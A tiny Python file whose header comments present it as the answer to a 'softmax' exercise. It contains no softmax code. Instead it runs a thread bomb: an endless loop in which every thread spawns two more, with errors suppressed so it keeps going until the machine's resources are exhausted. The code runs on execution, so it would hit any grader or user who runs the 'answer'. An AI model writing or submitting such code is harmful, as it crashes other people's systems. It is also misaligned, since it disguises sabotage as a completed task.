"""Starts threads that each start two more."""
# exercise: softmax
# where: answer
# status: any

import threading
import time


def grow():
    while True:
        try:
            for _ in range(2):
                threading.Thread(target=grow, daemon=True).start()
        except RuntimeError:
            pass
        time.sleep(0.01)


grow()
